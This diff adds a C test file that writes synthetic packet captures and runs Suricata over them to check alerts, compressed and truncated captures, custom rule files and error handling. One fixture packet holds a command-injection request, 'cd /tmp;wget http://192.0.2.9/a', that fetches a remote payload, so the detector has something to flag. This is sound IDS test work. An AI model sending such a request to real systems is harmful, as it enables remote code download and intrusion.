@@ -1,0 +1,370 @@
+/* Captures through the door: the real Suricata over captures made here. */
+#include <dirent.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <unistd.h>
+#include <zlib.h>
+
+#include "capture/door.h"
+#include "fmt/event.h"
+#include "os/child.h"
+#include "os/file.h"
+#include "tap.h"
+
+static char folder[] = "/tmp/komainu-test-XXXXXX";
+static struct event_parser *parser;
+static struct event event;
+
+struct seen {
+	int kind[EVENT_KIND_COUNT];
+	int lines, bad;
+	char alert[64], class[32], severity[16], outcome[16];
+	bool stop;
+};
+
+static const char *
+path_of(const char *name)
+{
+	static char path[4][160];
+	static int turn;
+	char *p = path[turn++ % 4];
+
+	snprintf(p, sizeof(path[0]), "%s/%s", folder, name);
+	return p;
+}
+
+/* --- a capture ------------------------------------------------------------ */
+
+struct wire {
+	FILE *file;
+	uint32_t sequence[2];
+	uint32_t second;
+};
+
+static void
+put32(uint8_t *b, uint32_t v)
+{
+	b[0] = (uint8_t)(v >> 24);
+	b[1] = (uint8_t)(v >> 16);
+	b[2] = (uint8_t)(v >> 8);
+	b[3] = (uint8_t)v;
+}
+
+static void
+header_write(FILE *f, uint32_t link_type)
+{
+	const uint32_t header[] = { 0xa1b2c3d4, 0x00040002, 0,
+				    0,          65535,      link_type };
+
+	fwrite(header, sizeof(header), 1, f);
+}
+
+static void
+record_write(struct wire *w, const uint8_t *bytes, uint32_t n)
+{
+	const uint32_t head[] = { 1775000000 + w->second++, 0, n, n };
+
+	fwrite(head, sizeof(head), 1, w->file);
+	fwrite(bytes, 1, n, w->file);
+}
+
+/* One TCP segment between 192.0.2.10:40000 (0) and 192.168.1.5:80 (1). */
+static void
+segment_write(struct wire *w, int from, uint8_t flags, const char *text)
+{
+	static const uint8_t address[2][4] = { { 192, 0, 2, 10 },
+					       { 192, 168, 1, 5 } };
+	static const uint8_t port[2][2] = { { 0x9c, 0x40 }, { 0, 80 } };
+	uint8_t packet[1500] = { 2, 0, 0, 0, 0, 1, 2, 0, 0, 0, 0, 2, 8, 0 };
+	size_t n = strlen(text);
+	uint8_t *ip = packet + 14, *tcp = ip + 20;
+
+	ip[0] = 0x45;
+	ip[2] = (uint8_t)((40 + n) >> 8);
+	ip[3] = (uint8_t)(40 + n);
+	ip[8] = 64;
+	ip[9] = 6;
+	memcpy(ip + 12, address[from], 4);
+	memcpy(ip + 16, address[1 - from], 4);
+	memcpy(tcp, port[from], 2);
+	memcpy(tcp + 2, port[1 - from], 2);
+	put32(tcp + 4, w->sequence[from]);
+	put32(tcp + 8, w->sequence[1 - from]);
+	tcp[12] = 0x50;
+	tcp[13] = flags;
+	tcp[14] = 0xff;
+	memcpy(tcp + 20, text, n);
+	record_write(w, packet, (uint32_t)(54 + n));
+	w->sequence[from] += (uint32_t)n + ((flags & 3) != 0 ? 1 : 0);
+}
+
+/* A request with a command in it to a recorder, refused. */
+static void
+capture_write(const char *name)
+{
+	struct wire w = { .sequence = { 1000, 2000 } };
+
+	w.file = fopen(path_of(name), "wb");
+	header_write(w.file, 1);
+	segment_write(&w, 0, 0x02, "");
+	segment_write(&w, 1, 0x12, "");
+	segment_write(&w, 0, 0x10, "");
+	segment_write(&w, 0, 0x18,
+		      "GET /shell?cd+/tmp;wget+http://192.0.2.9/a HTTP/1.1\r\n"
+		      "Host: 192.168.1.5\r\nUser-Agent: sample\r\n\r\n");
+	segment_write(&w, 1, 0x18,
+		      "HTTP/1.1 404 Not Found\r\nServer: sample\r\n"
+		      "Content-Length: 0\r\n\r\n");
+	segment_write(&w, 0, 0x11, "");
+	segment_write(&w, 1, 0x11, "");
+	segment_write(&w, 0, 0x10, "");
+	fclose(w.file);
+}
+
+static void
+file_write(const char *name, const char *text)
+{
+	FILE *f = fopen(path_of(name), "wb");
+
+	fputs(text, f);
+	fclose(f);
+}
+
+/* --- reading -------------------------------------------------------------- */
+
+static int
+line_take(void *context, struct text line, struct err *e)
+{
+	struct seen *s = context;
+
+	s->lines++;
+	if (event_parse(parser, line, &event, e) != 0) {
+		tap_note("%s", e->text);
+		s->bad++;
+		return 0;
+	}
+	s->kind[event.kind]++;
+	if (event.kind != EVENT_ALERT || event.alert.sid == 1)
+		return 0;
+	text_copy(s->class, sizeof(s->class), event.alert.komainu_class);
+	text_copy(s->severity, sizeof(s->severity),
+		  event.alert.komainu_severity);
+	text_copy(s->outcome, sizeof(s->outcome), event.alert.komainu_outcome);
+	return 0;
+}
+
+static bool
+stopped(void *context)
+{
+	const struct seen *s = context;
+
+	return s->stop;
+}
+
+static int
+read_with(struct door_options o, const char *name, struct seen *s,
+	  struct door_result *r, struct err *e)
+{
+	struct door_sink sink = { line_take, NULL, NULL, s };
+	struct door *d;
+	int result;
+
+	memset(e, 0, sizeof(*e));
+	memset(r, 0, sizeof(*r));
+	o.temporary = folder;
+	o.stopped = stopped;
+	o.stopped_context = s;
+	if (door_open(&o, &d, e) != 0)
+		return -1;
+	result = door_read(d, path_of(name), &sink, r, e);
+	door_close(&d);
+	return result;
+}
+
+static int
+private_folders(void)
+{
+	DIR *dir = opendir(folder);
+	struct dirent *entry;
+	int count = 0;
+
+	while ((entry = readdir(dir)) != NULL)
+		count += strncmp(entry->d_name, "komainu-", 8) == 0;
+	closedir(dir);
+	return count;
+}
+
+static void
+test_capture(void)
+{
+	struct door_options o = { 0 };
+	struct seen s = { 0 }, again = { 0 };
+	struct door_result r;
+	struct err e;
+
+	capture_write("attack.pcap");
+	tap_ok(read_with(o, "attack.pcap", &s, &r, &e) == 0, "a capture: %s",
+	       e.text);
+	tap_int(r.packets, 8, "packets");
+	tap_int(r.first_us, 1775000000000000, "time of the first");
+	tap_int(r.last_us, 1775000007000000, "time of the last");
+	tap_int(r.lines, s.lines, "lines counted");
+	tap_int(s.bad, 0, "every line is an event");
+	tap_int(s.kind[EVENT_FLOW], 1, "one flow");
+	tap_int(s.kind[EVENT_HTTP], 1, "one request");
+	tap_ok(s.kind[EVENT_SIGHTING] > 0, "sightings of our own decoder");
+	tap_ok(s.kind[EVENT_ALERT] > 0, "our own rules see the command");
+	tap_text(s.class, "exploit", "its class");
+	tap_text(s.outcome, "attempt", "a refused request is an attempt");
+	tap_ok(strcmp(s.severity, "now") != 0, "and never urgent");
+	tap_ok(read_with(o, "attack.pcap", &again, &r, &e) == 0 &&
+		   memcmp(s.kind, again.kind, sizeof(s.kind)) == 0,
+	       "the same twice");
+	tap_int(private_folders(), 0, "the private folder is gone");
+}
+
+static void
+test_gzip(void)
+{
+	gzFile g = gzopen(path_of("attack.pcap.gz"), "wb");
+	FILE *f = fopen(path_of("attack.pcap"), "rb");
+	struct door_options o = { 0 };
+	struct seen s = { 0 };
+	struct door_result r;
+	char buffer[4096];
+	struct err e;
+	size_t n;
+
+	n = fread(buffer, 1, sizeof(buffer), f);
+	gzwrite(g, buffer, (unsigned)n);
+	gzclose(g);
+	fclose(f);
+	tap_ok(read_with(o, "attack.pcap.gz", &s, &r, &e) == 0,
+	       "a compressed capture: %s", e.text);
+	tap_int(r.packets, 8, "packets");
+	tap_ok(s.kind[EVENT_ALERT] > 0, "alerts");
+}
+
+static void
+test_broken(void)
+{
+	struct door_options o = { 0 };
+	struct seen s = { 0 };
+	struct door_result r;
+	struct stat st;
+	struct err e;
+	FILE *f;
+
+	capture_write("cut.pcap");
+	stat(path_of("cut.pcap"), &st);
+	tap_ok(truncate(path_of("cut.pcap"), st.st_size - 100) == 0, "cut");
+	tap_ok(read_with(o, "cut.pcap", &s, &r, &e) == -1 &&
+		   e.kind == ERR_INVALID && strstr(e.text, "cut off") != NULL,
+	       "a capture cut off: %s", e.text);
+	tap_ok(r.packets >= 5 && s.kind[EVENT_ALERT] > 0,
+	       "what comes before is told");
+	f = fopen(path_of("none.pcap"), "wb");
+	header_write(f, 1);
+	fclose(f);
+	s = (struct seen){ 0 };
+	tap_ok(read_with(o, "none.pcap", &s, &r, &e) == 0, "no packets: %s",
+	       e.text);
+	tap_ok(strstr(r.notes, "no packet") != NULL, "noted: %s", r.notes);
+	f = fopen(path_of("radio.pcap"), "wb");
+	header_write(f, 105);
+	fclose(f);
+	tap_ok(read_with(o, "radio.pcap", &s, &r, &e) == -1 &&
+		   e.kind == ERR_UNKNOWN_FORMAT,
+	       "another link: %s", e.text);
+}
+
+static void
+test_rules(void)
+{
+	struct door_options o = { .rules = path_of("rules") };
+	struct seen s = { 0 };
+	struct door_result r;
+	struct err e;
+	char given[160];
+
+	snprintf(given, sizeof(given), "%s", o.rules);
+	o.rules = given;
+	mkdir(given, 0700);
+	tap_ok(read_with(o, "attack.pcap", &s, &r, &e) == -1 &&
+		   e.kind == ERR_NOT_FOUND,
+	       "a folder without rules: %s", e.text);
+	file_write("rules/a [1].rules",
+		   "# one\nalert http any any -> any any (msg:\"x\"; "
+		   "no_such_keyword; sid:2;)\n"
+		   "alert http any any -> any any (msg:\"mine\"; "
+		   "http.method; content:\"GET\"; sid:1;)\n");
+	tap_ok(read_with(o, "attack.pcap", &s, &r, &e) == 0,
+	       "rules of a person: %s", e.text);
+	tap_ok(s.kind[EVENT_ALERT] > 1, "are used beside ours");
+	tap_ok(strstr(r.notes, "line 2 of ") != NULL &&
+		   strstr(r.notes, "a [1].rules") != NULL &&
+		   strstr(r.notes, "no_such_keyword") != NULL,
+	       "one that cannot be used is named: %s", r.notes);
+	tap_text(s.class, "exploit", "ours still work");
+	unlink(path_of("rules/a [1].rules"));
+	rmdir(given);
+}
+
+static void
+test_failures(void)
+{
+	struct door_options o = { .suricata = "/no/such/suricata" };
+	struct seen s = { 0 };
+	struct door_result r;
+	struct err e;
+
+	tap_ok(read_with(o, "attack.pcap", &s, &r, &e) == -1 &&
+		   e.kind == ERR_UNAVAILABLE &&
+		   strstr(e.text, "apt install") != NULL,
+	       "no Suricata: %s", e.text);
+	o.suricata = "/bin/false";
+	tap_ok(read_with(o, "attack.pcap", &s, &r, &e) == -1 &&
+		   e.kind == ERR_UNAVAILABLE,
+	       "one that fails: %s", e.text);
+	tap_ok(s.kind[EVENT_SIGHTING] > 0, "our own decoder still tells");
+	o.suricata = NULL;
+	o.home_networks = "192.168.0.0/16, office";
+	tap_ok(read_with(o, "attack.pcap", &s, &r, &e) == -1 &&
+		   e.kind == ERR_INVALID,
+	       "home networks: %s", e.text);
+	o.home_networks = "192.168.0.0/16, 2001:db8::/32";
+	tap_ok(read_with(o, "attack.pcap", &s, &r, &e) == 0,
+	       "home networks: %s", e.text);
+	o.home_networks = NULL;
+	s.stop = true;
+	tap_ok(read_with(o, "attack.pcap", &s, &r, &e) == -1 &&
+		   e.kind == ERR_STOPPED,
+	       "stopped: %s", e.text);
+	tap_int(private_folders(), 0, "the private folders are gone");
+}
+
+int
+main(void)
+{
+	char path[256];
+	struct err e;
+
+	if (mkdtemp(folder) == NULL)
+		return 1;
+	parser = event_parser_new();
+	if (child_find("suricata", path, sizeof(path), NULL) != 0 &&
+	    access("/usr/bin/suricata", X_OK) != 0) {
+		tap_skip("Suricata is not installed");
+	} else {
+		test_capture();
+		test_gzip();
+		test_broken();
+		test_rules();
+		test_failures();
+	}
+	event_parser_free(&parser);
+	tap_ok(file_remove(folder, &e) == 0, "cleaned up");
+	return tap_done();
+}
